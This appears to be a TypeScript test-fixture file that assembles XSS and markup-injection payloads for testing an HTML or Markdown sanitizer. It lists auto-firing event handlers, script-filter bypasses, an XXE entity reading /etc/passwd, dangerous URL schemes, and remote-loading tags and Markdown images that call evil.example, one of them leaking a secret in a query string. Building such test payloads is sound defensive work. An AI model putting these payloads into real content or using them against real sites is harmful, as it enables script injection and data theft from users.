import { HOSTILE_MARKDOWN } from '../hostileMarkdown'
import type { Payload } from './payload'

const FAR = 'https://evil.example'
const RUN = 'window.pwned=1'

/** Elements, each with an event that some browser fires without being asked. */
const HANDLERS = [
  ...['img src=x onerror', 'img src=x onload', 'img srcset=x onerror', 'input autofocus onfocus'],
  ...['select autofocus onfocus', 'textarea autofocus onfocus', 'svg onload', 'svg onbegin'],
  ...['body onload', 'body onpageshow', 'video onloadstart', 'audio src=x onerror', 'marquee onstart'],
  ...['details open ontoggle', 'object data=x onerror', 'iframe onload', 'embed src=x onload'],
  ...['div style=animation-name:x onanimationstart', 'div tabindex=0 onfocusin', 'a onpointerover'],
  ...['form onsubmit', 'dialog open oncancel', 'link rel=stylesheet href=x onerror', 'track onload'],
].map((start) => `<${start}="${RUN}">`)

/** The same word in ways a filter might not know. */
const SCRIPTS = [
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script\n>${RUN}</script\n>`,
  `<script/x>${RUN}</script>`,
  `<script src="${FAR}/x.js"></script>`,
  `<script type=module>import("${FAR}/x.js")</script>`,
  `<script type=importmap>{"imports":{"react":"${FAR}/x.js"}}</script>`,
  `<script>/*<![CDATA[*/${RUN}/*]]>*/</script>`,
  `<script\u0000>${RUN}</script>`,
  `<\u0000script>${RUN}</script>`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="javascript:${RUN}"></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x><script>${RUN}</script></svg>#x"></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror="${RUN}"></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<noembed><img src=x onerror="${RUN}"></noembed>`,
  `<xmp><img src=x onerror="${RUN}"></xmp>`,
  `<plaintext><img src=x onerror="${RUN}">`,
  `<title><img src=x onerror="${RUN}"></title>`,
  `<textarea></textarea><img src=x onerror="${RUN}">`,
  `<div is="x-evil" onclick="${RUN}">x</div>`,
  `<slot name="x"></slot><portal src="${FAR}"></portal>`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
]

/** What asks a server for something, and so tells it that the answer was read. */
const REMOTE = [
  `<img src="${FAR}/a.png">`,
  `<img srcset="${FAR}/a.png 1x, ${FAR}/b.png 2x">`,
  `<picture><source srcset="${FAR}/a.png"><img></picture>`,
  `<video poster="${FAR}/a.png"></video>`,
  `<audio autoplay src="${FAR}/a.mp3"></audio>`,
  `<video><track default src="${FAR}/a.vtt"></video>`,
  `<input type=image src="${FAR}/a.png">`,
  `<body background="${FAR}/a.png">`,
  `<table background="${FAR}/a.png"><tr><td>x</td></tr></table>`,
  `<div style="background:url(${FAR}/a.png)">x</div>`,
  `<style>@import url(${FAR}/a.css); @font-face{font-family:x;src:url(${FAR}/a.woff)}</style>`,
  `<link rel=preload as=image href="${FAR}/a.png">`,
  `<link rel=dns-prefetch href="${FAR}"><link rel=preconnect href="${FAR}">`,
  `<link rel=prefetch href="${FAR}/a"><link rel=icon href="${FAR}/a.ico">`,
  `<link rel=manifest href="${FAR}/a.json">`,
  `<svg><image href="${FAR}/a.svg"></image></svg>`,
  `<svg><filter><feImage href="${FAR}/a.svg"></feImage></filter></svg>`,
  `<iframe src="${FAR}"></iframe><frame src="${FAR}">`,
  `<object data="${FAR}/a"></object><embed src="${FAR}/a"><applet code="${FAR}/a"></applet>`,
  `<a href="https://fine.example" ping="${FAR}/ping">x</a>`,
  `<form action="${FAR}"><input name=token><button>Continue</button></form>`,
  `<meta http-equiv=refresh content="0;url=${FAR}">`,
  `<meta http-equiv=Content-Security-Policy content="default-src *">`,
  `![one](${FAR}/a.png) ![two](//evil.example/a.png) ![three](http://evil.example/a.png)`,
  `![x][a]\n\n[a]: <${FAR}/a.png> "title"`,
  `[![x](${FAR}/a.png)](${FAR})`,
  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5wd25lZD0xIi8+)`,
  `![x](${FAR}/leak?secret=\n)`,
]

const SCHEMES = [
  ...['javascript:', 'JAVASCRIPT:', ' javascript:', 'java\tscript:', 'java\nscript:', '\u0001javascript:'],
  ...['javascript&colon;', '&#x6a;avascript:', 'javascript\u200b:', '\u202ejavascript:', 'feed:javascript:'],
  ...['data:text/html,', 'data:text/html;base64,', 'data:image/svg+xml,', 'data:application/xhtml+xml,'],
  ...['vbscript:', 'livescript:', 'blob:', 'filesystem:', 'file:///', 'about:blank#', 'view-source:'],
  ...['chrome://settings/', 'intent://', 'ms-msdt:/id ', 'vscode://', 'command:', 'ws://evil.example/'],
  ...['//evil.example/', '\\\\evil.example\\', 'https:evil.example/', 'http://127.0.0.1:22/', 'ftp://'],
]
const FORMS: readonly ((address: string) => string)[] = [
  (address) => `[Open](${address}${RUN})`,
  (address) => `[Open](<${address}${RUN}> "Open") and <${address}${RUN}>`,
  (address) => `[Open][a] [a]\n\n[a]: ${address}${RUN}\n\n<a href="${address}${RUN}">Open</a>`,
]

export const MARKUP: readonly Payload[] = [
  ...HOSTILE_MARKDOWN.map((text, index) => ({ name: `markup ${index + 1}`, text })),
  ...HANDLERS.map((text) => ({ name: `handler ${text.slice(1, 30)}`, text })),
  ...SCRIPTS.map((text, index) => ({ name: `script ${index + 1}`, text })),
  ...REMOTE.map((text, index) => ({ name: `remote ${index + 1}`, text })),
  ...SCHEMES.flatMap((scheme) =>
    FORMS.map((form, index) => ({
      name: `scheme ${JSON.stringify(scheme)} ${index + 1}`,
      text: form(scheme),
    })),
  ),
]
